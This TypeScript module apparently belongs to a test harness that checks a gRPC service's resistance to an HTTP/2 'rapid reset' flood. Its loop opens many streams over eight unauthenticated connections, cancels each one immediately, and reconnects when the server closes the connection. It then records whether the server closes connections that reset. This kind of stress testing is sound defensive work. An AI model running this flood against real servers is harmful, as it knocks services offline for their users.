import { constants } from 'node:http2';
import { setImmediate } from 'node:timers/promises';
import { besideVictim } from '../attack.ts';
import { openGrpcSession } from '../grpc-session.ts';
import type { Row } from '../probe.ts';
import type { Scene } from '../scene.ts';

const connections = 8;

/** Without a key: begins calls and resets them at once. Connects again when the server ends the connection. */
export async function rapidReset(scene: Scene): Promise<Row[]> {
  const row = await besideVictim(scene, `calls that are reset at once, over ${connections} connections, without a key`, async () => {
    const stop = new AbortController();
    let closed = 0;
    const loop = async () => {
      while (!stop.signal.aborted) {
        using attacker = await openGrpcSession(scene.grpcUrl);
        while (!stop.signal.aborted && !attacker.session.closed && !attacker.session.destroyed) {
          for (let i = 0; i < 100 && !attacker.session.destroyed; i++)
            attacker.begin('/dispatcher.v1.StatsService/GetStats').close(constants.NGHTTP2_CANCEL);
          await setImmediate();
        }
        if (!stop.signal.aborted) closed += 1;
      }
    };
    const running = Promise.all(Array.from({ length: connections }, loop));
    return {
      async stop() {
        stop.abort();
        await running;
        return closed;
      },
    };
  });
  return [{ ...row, limits: [...row.limits, { what: 'connections that reset are closed', held: row.refused > 0 }] }];
}
